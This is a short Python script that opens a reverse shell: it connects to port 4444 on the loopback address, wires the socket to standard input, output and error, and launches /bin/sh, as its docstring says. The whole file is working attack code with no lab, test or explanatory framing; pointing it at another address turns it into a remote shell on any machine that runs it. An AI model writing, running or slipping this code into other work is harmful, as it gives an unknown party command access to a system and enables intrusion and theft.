"""Gives a shell to whoever waits at a port of the loopback address."""
import os, socket

other = socket.create_connection(("127.0.0.1", 4444))
for stream in (0, 1, 2):
    os.dup2(other.fileno(), stream)
os.execv("/bin/sh", ["sh"])
